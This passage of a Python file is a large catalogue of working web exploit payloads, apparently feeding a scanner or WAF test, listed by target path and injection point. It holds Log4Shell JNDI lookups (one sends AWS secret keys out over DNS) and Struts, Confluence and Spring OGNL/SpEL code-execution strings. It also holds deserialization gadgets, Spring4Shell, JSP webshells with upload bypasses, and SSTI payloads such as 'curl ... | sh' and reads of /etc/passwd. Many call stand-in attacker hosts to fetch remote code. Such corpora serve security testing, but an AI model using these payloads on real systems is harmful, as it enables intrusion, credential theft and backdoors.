    P("${jndi:ldap://" + LOG4J_HOST + "/Basic/Command/Base64/aWQ=}", "/", "", "rs-header:X-Api-Version"),
    P("${jndi:ldap://${sys:java.version}.c6u.oast.example/a}", "/solr/admin/cores", "action"),
    P("${jndi:ldap://${hostName}.horizon.oast.example/a}", "/portal/info.jsp", "", "rs-header:Accept-Language"),
    P("${jndi:${lower:l}${lower:d}a${lower:p}://" + LOG4J_HOST + "/vc}", "/websso/SAML2/SSO/vsphere.local?"
      "SAMLRequest=", "", "rs-header:X-Forwarded-For"),
    P(_doc({"username": "admin", "password": "x", "remember": "${jndi:ldap://" + LOG4J_HOST + "/o=tomcat}",
            "strict": True}), "/api/login", "", "rs-json-body", "json-body"),
    P("j_username=${jndi:ldap://" + LOG4J_HOST + "/mi}&j_password=password&logincontext=employee",
      "/mifs/j_spring_security_check", "", "rs-raw-body", "raw-form"),
    P("${jndi:ldap://" + LOG4J_HOST + "/ofbiz}", "/webtools/control/main", "OFBiz.Visitor", "rs-cookie", "cookie"),
    P("${jndi:ldap://" + LOG4J_HOST + "/druid}", "/druid/coordinator/v1/lookups/config/{}", "", "rs-path", "path"),
    P("${jndi:rmi://203.0.113.5:1099/wiki}", "/wiki/{}", "", "rs-path", "path"),
    "${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.5:1099/obj}",
    "${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//" + LOG4J_HOST + "/a}",
    "${${lower:jn}${lower:di}:${lower:ld}ap://" + LOG4J_HOST + "/x}",
    "${jndi:ldap://127.0.0.1#evil.oast.example:1389/a}",
    "${jndi:dns://${env:AWS_ACCESS_KEY_ID}.${env:AWS_SECRET_ACCESS_KEY}.oast.example}",
    "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://" + LOG4J_HOST + "/d}",
    "${j${k8s:k5:-ND}i${sd:k5:-:}ldap://" + LOG4J_HOST + "/k}",
    "${${lower:${lower:jndi}}:${lower:rmi}://203.0.113.5/poc}",
    "${${::-${::-$${::-j}}}}",
]
S2_045 = ("%{(#_='multipart/form-data').(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#_memberAccess?(#_memberAccess="
          "#dm):((#container=#context['com.opensymphony.xwork2.ActionContext.container']).(#ognlUtil=#container."
          "getInstance(@com.opensymphony.xwork2.ognl.OgnlUtil@class)).(#ognlUtil.getExcludedPackageNames().clear())."
          "(#ognlUtil.getExcludedClasses().clear()).(#context.setMemberAccess(#dm)))).(#cmd='id').(#iswin=(@java."
          "lang.System@getProperty('os.name').toLowerCase().contains('win'))).(#cmds=(#iswin?{'cmd.exe','/c',#cmd}:"
          "{'/bin/bash','-c',#cmd})).(#p=new java.lang.ProcessBuilder(#cmds)).(#p.redirectErrorStream(true)).(#pro"
          "cess=#p.start()).(#ros=(@org.apache.struts2.ServletActionContext@getResponse().getOutputStream())).(@org."
          "apache.commons.io.IOUtils@copy(#process.getInputStream(),#ros)).(#ros.flush())}")
S2_057 = ("${(#dm=@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS).(#ct=#request['struts.valueStack'].context).(#cr=#ct["
          "'com.opensymphony.xwork2.ActionContext.container']).(#ou=#cr.getInstance(@com.opensymphony.xwork2.ognl."
          "OgnlUtil@class)).(#ou.getExcludedPackageNames().clear()).(#ou.getExcludedClasses().clear()).(#ct."
          "setMemberAccess(#dm)).(#a=@java.lang.Runtime@getRuntime().exec('id')).(@org.apache.commons.io.IOUtils@"
          "toString(#a.getInputStream()))}")
S2_061 = ('%{(#instancemanager=#application["org.apache.tomcat.InstanceManager"]).(#stack=#attr["com.opensymphony.'
          'xwork2.util.ValueStack.ValueStack"]).(#bean=#instancemanager.newInstance("org.apache.commons.collections.'
          'BeanMap")).(#bean.setBean(#stack)).(#context=#bean.get("context")).(#bean.setBean(#context)).(#macc=#bean'
          '.get("memberAccess")).(#bean.setBean(#macc)).(#emptyset=#instancemanager.newInstance("java.util.HashSet"))'
          '.(#bean.put("excludedClasses",#emptyset)).(#bean.put("excludedPackageNames",#emptyset)).(#arglist=#instance'
          'manager.newInstance("java.util.ArrayList")).(#arglist.add("id")).(#execute=#instancemanager.newInstance('
          '"freemarker.template.utility.Execute")).(#execute.exec(#arglist))}')
S2_032 = ("method:%23_memberAccess%3d@ognl.OgnlContext@DEFAULT_MEMBER_ACCESS,%23res%3d%40org.apache.struts2.Servlet"
          "ActionContext%40getResponse(),%23res.setCharacterEncoding(%23parameters.encoding%5B0%5D),%23w%3d%23res."
          "getWriter(),%23s%3dnew+java.util.Scanner(@java.lang.Runtime@getRuntime().exec(%23parameters.cmd%5B0%5D)."
          "getInputStream()).useDelimiter(%23parameters.pp%5B0%5D),%23str%3d%23s.hasNext()%3f%23s.next()%3a%23"
          "parameters.ppp%5B0%5D,%23w.print(%23str),%23w.close(),1?%23xx:%23request.toString&cmd=id&pp=%5C%5CA&ppp="
          "%20&encoding=UTF-8")
S2_016 = ("redirect:${%23context%5B%27xwork.MethodAccessor.denyMethodExecution%27%5D%3Dfalse,%23f%3D%23_memberAccess"
          ".getClass().getDeclaredField(%27allowStaticMethodAccess%27),%23f.setAccessible(true),%23f.set(%23_member"
          "Access,true),@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec(%27id%27)."
          "getInputStream())}")
CONFLUENCE_22_26134 = ('${(#a=@org.apache.commons.io.IOUtils@toString(@java.lang.Runtime@getRuntime().exec("id")'
                       '.getInputStream(),"utf-8")).(@com.opensymphony.webwork.ServletActionContext@getResponse()'
                       '.setHeader("X-Cmd-Response",#a))}')
CONFLUENCE_23_22527 = ("label=\\u0027%2b#request\\u005b\\u0027.KEY_velocity.struts2.context\\u0027\\u005d.internalGet("
                       "\\u0027ognl\\u0027).findValue(#parameters.x,{})%2b\\u0027&x=@org.apache.struts2.ServletAction"
                       "Context@getResponse().setHeader('X-Cmd-Response',(new freemarker.template.utility.Execute())"
                       ".exec({\"id\"}))")
SCG_ROUTE = {"id": "hacktest", "filters": [{"name": "AddResponseHeader", "args": {
    "name": "Result", "value": "#{new String(T(org.springframework.util.StreamUtils).copyToByteArray(T(java.lang."
                               "Runtime).getRuntime().exec(new String[]{\"id\"}).getInputStream()))}"}}],
    "uri": "http://example.com"}
NEXUS_ROLES = {"action": "coreui_User", "method": "update", "data": [{
    "userId": "admin", "version": "1", "firstName": "x", "lastName": "x", "email": "a@example.com",
    "status": "active", "roles": ["$\\A{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null)"
                                  ".exec('id')}"]}], "type": "rpc", "tid": 11}
NEXUS_GROUP = {"name": "internal", "online": True, "storage": {"blobStoreName": "default",
                                                              "strictContentTypeValidation": True},
               "group": {"memberNames": ["$\\c{''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke("
                                         "null).exec('touch /tmp/nexus')}"]}}
UNOMI_OGNL = {"personalizations": [{"id": "gender-test", "strategy": "matching-first",
                                    "strategyOptions": {"fallback": "var2"}, "contents": [{"filters": [{"condition": {
                                        "parameterValues": {
                                            "propertyName": "(#runtimeclass = #this.getClass().forName(\"java.lang."
                                                            "Runtime\")).(#getruntimemethod = #runtimeclass."
                                                            "getDeclaredMethods().{^ #this.name.equals(\"getRuntime\")}"
                                                            "[0]).(#rtobj = #getruntimemethod.invoke(null,null))."
                                                            "(#execmethod = #runtimeclass.getDeclaredMethods().{? "
                                                            "#this.name.equals(\"exec\")}[0]).(#execmethod.invoke("
                                                            "#rtobj,\"touch /tmp/ognl\"))",
                                            "comparisonOperator": "equals", "propertyValue": "male"},
                                        "type": "profilePropertyCondition"}}]}]}], "sessionId": "sample"}
# Expression language injection: Struts 2 OGNL (S2-045 Content-Type CVE-2017-5638, S2-057 namespace
# CVE-2018-11776, S2-061 CVE-2020-17530, S2-032 method:, S2-016 redirect:, a response-header probe),
# Confluence OGNL in the URI (CVE-2022-26134) and the text-inline.vm `label` (CVE-2023-22527), SpEL in Spring
# Cloud Function's routing-expression header (CVE-2022-22963), Spring Cloud Gateway routes (CVE-2022-22947),
# Spring Data Commons parameter names (CVE-2018-1273), Spring Data REST JSON Patch paths (CVE-2017-8046),
# Spring Security OAuth response_type (CVE-2016-4977) and the whitelabel error page, JBoss Seam actionOutcome
# (CVE-2010-1871), Nexus Java EL in roles (CVE-2018-16621) and group members (CVE-2020-10199), Unomi OGNL,
# Spring JSP tag double evaluation (CVE-2011-2730), time-based SpEL probes
EL: list[Entry] = [
    P(S2_045, "/struts2-showcase/index.action", "", "rs-header:Content-Type"),
    P(S2_057, "/struts2-showcase/{}/actionChain1.action", "", "rs-path"),
    P(S2_061, "/index.action", "id", "rs-form"),
    P(S2_032, "/index.action", "", "rs-raw-query", "raw-query"),
    P(S2_016, "/login.action", "", "rs-raw-query", "raw-query"),
    P(CONFLUENCE_22_26134, "/{}/", "", "rs-path", "path"),
    P(CONFLUENCE_23_22527, "/template/aui/text-inline.vm", "", "rs-raw-body", "raw-form"),
    P('T(java.lang.Runtime).getRuntime().exec("touch /tmp/scf")', "/functionRouter", "",
      "rs-header:spring.cloud.function.routing-expression"),
    P(_doc(SCG_ROUTE), "/actuator/gateway/routes/hacktest", "", "rs-json-body", "json-body"),
    P('username[#this.getClass().forName("java.lang.Runtime").getRuntime().exec("id")]=&password=&repeatedPassword=',
      "/users", "", "rs-raw-body", "raw-form"),
    P('[{"op":"replace","path":"T(java.lang.Runtime).getRuntime().exec(new java.lang.String(new byte[]{105,100}))/'
      'lastname","value":"x"}]', "/customers/1", "", "rs-body:application/json-patch+json",
      "body:application/json-patch+json"),
    P("response_type=${T(java.lang.Runtime).getRuntime().exec(%22id%22)}&client_id=acme&scope=openid&redirect_uri="
      "http://test", "/oauth/authorize", "", "rs-raw-query", "raw-query"),
    P("${T(java.lang.Runtime).getRuntime().exec(new String(new byte[]{0x63,0x61,0x6c,0x63}))}", "/error", "id"),
    P("actionOutcome=/pwn.xhtml?pwned%3d%23{expressions.getClass().forName('java.lang.Runtime').getDeclaredMethod("
      "'getRuntime')}", "/seam-booking/home.seam", "", "rs-raw-query", "raw-query"),
    P(_doc(NEXUS_ROLES), "/service/extdirect", "", "rs-json-body", "json-body"),
    P(_doc(NEXUS_GROUP), "/service/rest/beta/repositories/go/group", "", "rs-json-body", "json-body"),
    P(_doc(UNOMI_OGNL), "/context.json", "", "rs-json-body", "json-body"),
    "${pageContext.request.getSession().getServletContext().getClassLoader().getURLs()[0]}",
    "%{#context['com.opensymphony.xwork2.dispatcher.HttpServletResponse'].addHeader('X-Check',9*9)}",
    "#{T(java.lang.Thread).sleep(10000)}",
]
XMLDECODER_WSAT = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/"><soapenv:Header>'
                   '<work:WorkContext xmlns:work="http://bea.com/2004/06/soap/workarea/"><java version="1.4.0" '
                   'class="java.beans.XMLDecoder"><void class="java.lang.ProcessBuilder"><array class="java.lang.'
                   'String" length="3"><void index="0"><string>/bin/bash</string></void><void index="1"><string>-c'
                   '</string></void><void index="2"><string>id</string></void></array><void method="start"/></void>'
                   "</java></work:WorkContext></soapenv:Header><soapenv:Body/></soapenv:Envelope>")
XMLDECODER_ASYNC = ('<soapenv:Envelope xmlns:soapenv="http://schemas.xmlsoap.org/soap/envelope/" xmlns:wsa="http://www.'
                    'w3.org/2005/08/addressing" xmlns:asy="http://www.bea.com/async/AsyncResponseService"><soapenv:'
                    "Header><wsa:Action>xx</wsa:Action><wsa:RelatesTo>xx</wsa:RelatesTo><work:WorkContext xmlns:work="
                    '"http://bea.com/2004/06/soap/workarea/"><java><class><string>com.bea.core.repackaged.springframe'
                    "work.context.support.FileSystemXmlApplicationContext</string><void><string>http://203.0.113.5/"
                    "x.xml</string></void></class></java></work:WorkContext></soapenv:Header><soapenv:Body><asy:onAsync"
                    "Delivery/></soapenv:Body></soapenv:Envelope>")
XSTREAM_SORTED = ('<sorted-set><string>foo</string><dynamic-proxy><interface>java.lang.Comparable</interface><handler '
                  'class="java.beans.EventHandler"><target class="java.lang.ProcessBuilder"><command><string>id'
                  "</string></command></target><action>start</action></handler></dynamic-proxy></sorted-set>")
XSTREAM_NSX = ("<java.util.PriorityQueue serialization='custom'><unserializable-parents/><java.util.PriorityQueue>"
               "<default><size>2</size></default><int>3</int><dynamic-proxy><interface>java.lang.Comparable"
               "</interface><handler class='sun.tracing.NullProvider'><active>true</active><providerType>java.lang."
               "Comparable</providerType><probes><entry><method><class>java.lang.Comparable</class><name>compareTo"
               "</name><parameter-types><class>java.lang.Object</class></parameter-types></method><sun.tracing."
               "dtrace.DTraceProbe><proxy class='java.lang.Runtime'/><implementing__method><class>java.lang.Runtime"
               "</class><name>exec</name><parameter-types><class>java.lang.String</class></parameter-types>"
               "</implementing__method></sun.tracing.dtrace.DTraceProbe></entry></probes></handler></dynamic-proxy>"
               "<string>id</string></java.util.PriorityQueue></java.util.PriorityQueue>")
TPL_BYTES = _b64(b"\xca\xfe\xba\xbe\x00\x00\x00\x34\x00\x21\x0a\x00\x08\x00\x12\x0a\x00\x13\x00\x14")
# Polymorphic deserialization: WebLogic XMLDecoder in wls-wsat (CVE-2017-10271) and _async (CVE-2019-2725),
# XStream sorted-set EventHandler (CVE-2013-7285) against the Struts REST plugin, XStream DTraceProbe
# (CVE-2021-39144, VMware NSX Manager), Spring Boot /env eureka serviceUrl pointing at an XStream document,
# fastjson autoType (1.2.24 TemplatesImpl, 1.2.41 L;, 1.2.45 JndiDataSourceFactory, 1.2.47 Class cache, DNS
# probes), Jackson default typing (JdbcRowSetImpl, logback JNDIConnectionSource, HikariConfig, xbean,
# ClassPathXmlApplicationContext, @class), SnakeYAML JdbcRowSetImpl
POLY: list[Entry] = [
    P(XMLDECODER_WSAT, "/wls-wsat/CoordinatorPortType", "", "rs-body:text/xml", "xml"),
    P(XMLDECODER_ASYNC, "/_async/AsyncResponseService", "", "rs-body:text/xml", "xml"),
    P('<java><object class="java.lang.Runtime" method="getRuntime"><void method="exec"><string>touch /tmp/xd</string>'
      "</void></object></java>", "/api/import/xml", "", "rs-xml", "xml"),
    P(XSTREAM_SORTED, "/struts2-rest-showcase/orders/3", "", "rs-body:application/xml", "xml"),
    P(XSTREAM_NSX, "/api/2.0/services/usermgmt/password/abc", "", "rs-body:application/xml", "xml"),
    P("eureka.client.serviceUrl.defaultZone=http://203.0.113.5/xstream", "/env", "", "rs-raw-body", "raw-form"),
    P('{"@type":"com.sun.org.apache.xalan.internal.xsltc.trax.TemplatesImpl","_bytecodes":["' + TPL_BYTES + '"],'
      '"_name":"a.b","_tfactory":{},"_outputProperties":{}}', "/api/v1/items", "", "rs-json-body", "json-body"),
    P('{"@type":"Lcom.sun.rowset.JdbcRowSetImpl;","dataSourceName":"ldap://' + LOG4J_HOST + '/fj41",'
      '"autoCommit":true}', "/api/v1/items", "", "rs-json-body", "json-body"),
    P('{"@type":"org.apache.ibatis.datasource.jndi.JndiDataSourceFactory","properties":{"data_source":"ldap://'
      + LOG4J_HOST + '/fj45"}}', "/json", "", "rs-json-body", "json-body"),
    P('{"a":{"@type":"java.lang.Class","val":"com.sun.rowset.JdbcRowSetImpl"},"b":{"@type":"com.sun.rowset.Jdbc'
      'RowSetImpl","dataSourceName":"rmi://203.0.113.5:1099/Exploit","autoCommit":true}}', "/json", "",
      "rs-json-body", "json-body"),
    P('{"@type":"java.net.Inet4Address","val":"fastjson.dnslog.oast.example"}', "/api/v1/items", "", "rs-json-body",
      "json-body"),
    P('["com.sun.rowset.JdbcRowSetImpl",{"dataSourceName":"ldap://' + LOG4J_HOST + '/jk","autoCommit":true}]',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('["ch.qos.logback.core.db.JNDIConnectionSource",{"jndiLocation":"ldap://' + LOG4J_HOST + '/lb"}]',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('["com.zaxxer.hikari.HikariConfig",{"metricRegistry":"ldap://' + LOG4J_HOST + '/hk"}]', "/api/v2/orders", "",
      "rs-json-body", "json-body"),
    P('["org.apache.xbean.propertyeditor.JndiConverter",{"asText":"ldap://' + LOG4J_HOST + '/xb"}]',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('{"object":["org.springframework.context.support.ClassPathXmlApplicationContext","http://203.0.113.5/spel.xml"]}',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('{"@class":"com.sun.rowset.JdbcRowSetImpl","dataSourceName":"ldap://' + LOG4J_HOST + '/cls","autoCommit":true}',
      "/api/v2/orders", "", "rs-json-body", "json-body"),
    P('!!com.sun.rowset.JdbcRowSetImpl {dataSourceName: "ldap://' + LOG4J_HOST + '/yaml", autoCommit: true}',
      "/api/config", "", "rs-body:application/x-yaml", "body:application/x-yaml"),
]
SPRING4SHELL = ("class.module.classLoader.resources.context.parent.pipeline.first.pattern=%25%7Bc2%7Di%20if(%22j%22"
                ".equals(request.getParameter(%22pwd%22)))%7B%20java.io.InputStream%20in%20%3D%20%25%7Bc1%7Di.getRun"
                "time().exec(request.getParameter(%22cmd%22)).getInputStream()%3B%20int%20a%20%3D%20-1%3B%20byte%5B%5D"
                "%20b%20%3D%20new%20byte%5B2048%5D%3B%20while((a%3Din.read(b))!%3D-1)%7B%20out.println(new%20String(b))"
                "%3B%20%7D%20%7D%20%25%7Bsuffix%7Di&class.module.classLoader.resources.context.parent.pipeline.first."
                "suffix=.jsp&class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT&"
                "class.module.classLoader.resources.context.parent.pipeline.first.prefix=tomcatwar&class.module.class"
                "Loader.resources.context.parent.pipeline.first.fileDateFormat=")
JOLOKIA = "/jolokia/exec/"
# Class loading: Spring4Shell's Tomcat AccessLogValve rewrite through class.module.classLoader (CVE-2022-22965)
# and its probes, Struts 2 class['classLoader'] (S2-020, CVE-2014-0094) and Struts 1 class.classLoader
# (CVE-2014-0114), SnakeYAML ScriptEngineManager over URLClassLoader (CVE-2022-1471), Spring Cloud
# spring.cloud.bootstrap.location and logging.config through actuator /env, Jolokia logback reloadByURL and
# Tomcat JNDIRealm, Jenkins @Grab (CVE-2019-1003000), fastjson BCEL ClassLoader with dbcp BasicDataSource,
# defineClass through reflection, Unsafe, GroovyClassLoader and Spring's ReflectUtils (memory shells), H2
# RUNSCRIPT FROM a URL
CLASS_LOADING: list[Entry] = [
    P(SPRING4SHELL, "/app/greeting", "", "rs-raw-body", "raw-form"),
    P("class.module.classLoader.resources.context.parent.pipeline.first.directory=webapps/ROOT", "/app/greeting", "",
      "rs-raw-query", "raw-query"),
    P("class.module.classLoader.DefaultAssertionStatus=nonsense", "/", "", "rs-raw-query", "raw-query"),
    P("class['classLoader']['resources']['dirContext']['docBase']=/", "/struts2-blank/example/HelloWorld.action", "",
      "rs-raw-query", "raw-query"),
    P("class.classLoader.resources.dirContext.docBase=\\\\203.0.113.5\\share", "/welcome.do", "", "rs-raw-body",
      "raw-form"),
    P('!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.5:8000/'
      'yaml-payload.jar"]]]]', "/api/config", "", "rs-body:application/x-yaml", "body:application/x-yaml"),
    P("spring.cloud.bootstrap.location=http://203.0.113.5/example.yml", "/env", "", "rs-raw-body", "raw-form"),
    P(_doc({"name": "logging.config", "value": "http://203.0.113.5/logback.xml"}), "/actuator/env", "",
      "rs-json-body", "json-body"),
    P("ch.qos.logback.classic:Name=default,Type=ch.qos.logback.classic.jmx.JMXConfigurator/reloadByURL/http:!/!/"
      "203.0.113.5!/logback.xml", JOLOKIA + "{}", "", "rs-path", "path"),
    P(_doc({"type": "WRITE", "mbean": "Tomcat:realmPath=/realm0,type=Realm", "attribute": "connectionURL",
            "value": "rmi://203.0.113.5:1099/Exploit"}), "/jolokia/", "", "rs-json-body", "json-body"),
    P("new URLClassLoader([new URL('http://203.0.113.5/x.jar')] as URL[]).loadClass('Exploit').newInstance()",
      "/script", "script", "rs-form"),
    P("sandbox=true&value=@GrabConfig(disableChecksums=true)%0a@GrabResolver(name='orange.tw',root='http://203.0.113.5"
      "/')%0a@Grab(group='tw.orange',module='poc',version='1')%0aimport%20Orange;", "/securityRealm/user/admin/"
      "descriptorByName/org.jenkinsci.plugins.scriptsecurity.sandbox.groovy.SecureGroovyScript/checkScript", "",
      "rs-raw-query", "raw-query"),
    P('{"@type":"org.apache.tomcat.dbcp.dbcp2.BasicDataSource","driverClassLoader":{"@type":"com.sun.org.apache.bcel.'
      'internal.util.ClassLoader"},"driverClassName":"$$BCEL$$$l$8b$I$A$A$A$A$A$A$AmQMo$d3$40$Q$7d$9b$e4$b8$a4$j"}',
      "/api/v1/items", "", "rs-json-body", "json-body"),
    "var cl=java.lang.Thread.currentThread().getContextClassLoader();var m=java.lang.ClassLoader.class.getDeclared"
    "Method('defineClass',java.lang.Class.forName('[B'),java.lang.Integer.TYPE,java.lang.Integer.TYPE);m.setAccessib"
    "le(true);var b=java.util.Base64.getDecoder().decode('yv66vgAAADQAHgoABgARCQASABMIABQ=');m.invoke(cl,b,0,b.length)"
    ".newInstance();",
    P("def f=sun.misc.Unsafe.getDeclaredField('theUnsafe');f.accessible=true;def u=f.get(null);u.defineAnonymousClass("
      "java.io.File,'yv66vgAAADIAHQ=='.decodeBase64(),null).newInstance()", "/script", "script", "rs-form"),
    "new groovy.lang.GroovyClassLoader().parseClass(new URL('http://203.0.113.5/Evil.groovy').text).newInstance()"
    ".run()",
    P("#{T(org.springframework.cglib.core.ReflectUtils).defineClass('Memshell',T(org.springframework.util.Base64Utils)"
      ".decodeFromString('yv66vgAAADQAMgoACwAa'),new javax.management.loading.MLet(new java.net.URL[0],T(java.lang."
      "Thread).currentThread().getContextClassLoader())).newInstance()}", "/actuator/gateway/routes/mem", "value",
      "rs-json"),
    P("jdbc:h2:mem:test;TRACE_LEVEL_SYSTEM_OUT=3;INIT=RUNSCRIPT FROM 'http://203.0.113.5/poc.sql'",
      "/h2-console/login.do", "url", "rs-form"),
]
JSP_SHELL = ('<%@ page import="java.io.*" %><% String c=request.getParameter("cmd"); if(c!=null){ Process p=Runtime.'
             'getRuntime().exec(new String[]{"/bin/sh","-c",c}); BufferedReader r=new BufferedReader(new InputStream'
             'Reader(p.getInputStream())); String l; while((l=r.readLine())!=null){ out.println(l); } } %>')
JSPX_SHELL = ('<jsp:root xmlns:jsp="http://java.sun.com/JSP/Page" version="1.2"><jsp:scriptlet>Runtime.getRuntime()'
              '.exec(request.getParameter("c"));</jsp:scriptlet></jsp:root>')
BEHINDER = ('<%@page import="java.util.*,javax.crypto.*,javax.crypto.spec.*"%><%!class U extends ClassLoader{U(Class'
            'Loader c){super(c);}public Class g(byte []b){return super.defineClass(b,0,b.length);}}%><%if (request.'
            'getMethod().equals("POST")){String k="e45e329feb5d925b";session.putValue("u",k);Cipher c=Cipher.getIn'
            'stance("AES");c.init(2,new SecretKeySpec(k.getBytes(),"AES"));new U(this.getClass().getClassLoader()).'
            'g(c.doFinal(new sun.misc.BASE64Decoder().decodeBuffer(request.getReader().readLine()))).newInstance()'
            '.equals(pageContext);}%>')
JSP_SCANNER = ('<%= new java.util.Scanner(Runtime.getRuntime().exec(request.getParameter("c")).getInputStream())'
               '.useDelimiter("\\\\A").next() %>')
JSP_WRITER = ('<%new java.io.FileOutputStream(application.getRealPath("/")+"/s.jsp").write(request.getParameter("t")'
              '.getBytes());%>')
JSP_ONELINE = '<%Runtime.getRuntime().exec(request.getParameter("i"));%>'
JBOSS_STORE = ("action=invokeOpByName&name=jboss.admin%3Aservice%3DDeploymentFileRepository&methodName=store&argType="
               "java.lang.String&arg0=shell.war&argType=java.lang.String&arg1=shell&argType=java.lang.String&arg2=.jsp"
               "&argType=java.lang.String&arg3=%3C%25Runtime.getRuntime().exec(request.getParameter(%22c%22))%3B%25%3E"
               "&argType=boolean&arg4=True")
WLS_KEYSTORE = "/ws_utc/resources/setting/keystore?timestamp=1539583740281"
# JSP uploads: Tomcat PUT with the trailing slash, space and ::$DATA tricks (CVE-2017-12615), WebLogic
# ws_utc keystore upload (CVE-2018-2894), Struts file upload uploadFileName traversal (CVE-2023-50164),
# Confluence attachment name traversal (CVE-2019-3398), ColdFusion's CKEditor file manager upload.cfm,
# SAP NetWeaver Visual Composer metadatauploader, the JBoss jmx-console DeploymentFileRepository store, and
# upload names that beat extension checks (case, null byte, semicolon, trailing dot and space, jspx)
JSP_UPLOAD: list[Entry] = [
    P(JSP_SHELL, "/shell.jsp/", "", "rs-put", "multipart-file", fname="shell.jsp"),
    P(JSPX_SHELL, "/x.jspx/", "", "rs-put", "multipart-file", fname="x.jspx"),
    P(JSP_SCANNER, "/cmd.jsp%20", "", "rs-put", "multipart-file", fname="cmd.jsp"),
    P(JSP_ONELINE, "/test.jsp::$DATA", "", "rs-put", "multipart-file", fname="test.jsp"),
    P(BEHINDER, WLS_KEYSTORE, "ks_filename", "rs-multipart-file", "multipart-file", fname="update.jsp"),
    P(JSP_WRITER, "/cf_scripts/scripts/ajax/ckeditor/plugins/filemanager/upload.cfm", "file", "rs-multipart-file",
      "multipart-file", fname="cf.jsp"),
    P(JSP_SHELL.replace('"cmd"', '"x"'), "/developmentserver/metadatauploader?CONTENTTYPE=MODEL&CLIENT=1", "file",
      "rs-multipart-file", "multipart-file", fname="helper.jsp"),
    P(JBOSS_STORE, "/jmx-console/HtmlAdaptor", "", "rs-raw-query", "raw-query"),
    P("../../webapps/ROOT/shell.jsp", "/upload.action", "uploadFileName", "rs-multipart-field", "multipart-field",
      fname="1.txt"),
    P("../../../../../../opt/atlassian/confluence/confluence/pages/pwn.jsp",
      "/plugins/drag-and-drop/upload.action?pageId=65601&filename=x", "file", "rs-multipart-filename",
      "multipart-filename"),
    P("shell.jsp", "/upload", "file", "rs-multipart-filename", "multipart-filename"),
    P("cmd.jsp%00.jpg", "/fileupload/upload", "file", "rs-multipart-filename", "multipart-filename"),
    P("shell.jsp;.png", "/servlet/upload", "upload", "rs-multipart-filename", "multipart-filename"),
    P("shell.JsP", "/api/attachments", "attachment", "rs-multipart-filename", "multipart-filename"),
    P("x.jsp ", "/upload.do", "file", "rs-multipart-filename", "multipart-filename"),
    P("..\\..\\webapps\\ROOT\\s.jsp", "/upload", "file", "rs-multipart-filename", "multipart-filename"),
    P("avatar.jspx", "/user/avatar", "avatar", "rs-multipart-filename", "multipart-filename"),
    P("shell.jsp.", "/UploadServlet", "file", "rs-multipart-filename", "multipart-filename"),
]

# --- ssti --------------------------------------------------------------------------------------------------------
# Jinja2: changedetection.io notification bodies (the published RCE), Flask apps that render_template_string
# user text (config / request / get_flashed_messages / url_for globals, the catch_warnings walk, the
# attr-and-\x5f filter bypass), Ansible-style templated fields
JINJA2: list[Entry] = [
    P("{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}", "/settings",
      "application-notification_body", "rs-form"),
    P("{{config.items()}}", "/profile", "name"),
    P("{{ request.application.__globals__.__builtins__.__import__('os').popen('cat /etc/passwd').read() }}",
      "/preview", "template", "rs-form"),
    "{{ lipsum.__globals__.__builtins__.open('/etc/passwd').read() }}",
    "{% for c in ''.__class__.__mro__[1].__subclasses__() %}{% if c.__name__ == 'catch_warnings' %}{{ c()._module."
    "__builtins__['__import__']('os').popen('id').read() }}{% endif %}{% endfor %}",
    P("{{ get_flashed_messages.__globals__['current_app'].config['SECRET_KEY'] }}", "/hello", "name"),
    "{{ url_for.__globals__['os'].environ }}",
    "{{request|attr('application')|attr('\\x5f\\x5fglobals\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')("
    "'\\x5f\\x5fbuiltins\\x5f\\x5f')|attr('\\x5f\\x5fgetitem\\x5f\\x5f')('\\x5f\\x5fimport\\x5f\\x5f')('os')|"
    "attr('popen')('id')|attr('read')()}}",
    "{{ joiner.__init__.__globals__.os.popen('id').read() }}",
    "{{ namespace.__init__.__globals__.os.popen('curl http://203.0.113.5/x.sh | sh').read() }}",
]
# Twig: Craft CMS SEOmatic (the meta-link-container `uri` and the 2.x URL path), Grav admin page content,
# Symfony apps (app.request, file_excerpt), Twig 1.x _self.env, the filter / map / sort / reduce callables
TWIG: list[Entry] = [
    P("{{craft.app.config.general.securityKey}}", "/actions/seomatic/meta-container/meta-link-container/", "uri"),
    P("{{craft.config.get('password','db')}}", "/{}", "", "rs-path", "path"),
    P("{{['cat /etc/passwd']|filter('passthru')}}", "/admin/pages/home", "data[content]", "rs-form"),
    '{{_self.env.registerUndefinedFilterCallback("exec")}}{{_self.env.getFilter("id")}}',
    "{{['id','']|sort('system')}}",
    "{{[0]|reduce('system','id')}}",
    "{{ app.request.server.all|join(',') }}",
    "{{ '/etc/passwd'|file_excerpt(1,-1) }}",
    "{{ ['id']|map('shell_exec')|join }}",
    "{% set cmd = 'id' %}{{ ['bash -c \"' ~ cmd ~ '\"']|filter('system') }}",
]
# FreeMarker: VMware Workspace ONE Access catalog-portal `deviceUdid` (CVE-2022-22954), Liferay / Alfresco /
# Magnolia / Halo admin-editable templates (Execute, ObjectConstructor, JythonRuntime, the Liferay 7
# ObjectWrapper sandbox bypass, ?api file reads), the square-bracket syntax
FREEMARKER: list[Entry] = [
    P('${"freemarker.template.utility.Execute"?new()("cat /etc/passwd")}', "/catalog-portal/ui/oauth/verify",
      "deviceUdid"),
    P('<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}', "/api/templates", "content", "rs-json"),
    '<#assign oc="freemarker.template.utility.ObjectConstructor"?new()>${oc("java.lang.ProcessBuilder",["sh","-c",'
    '"id"]).start()}',
    '<#assign jr="freemarker.template.utility.JythonRuntime"?new()><@jr>import os;os.system("id")</@jr>',
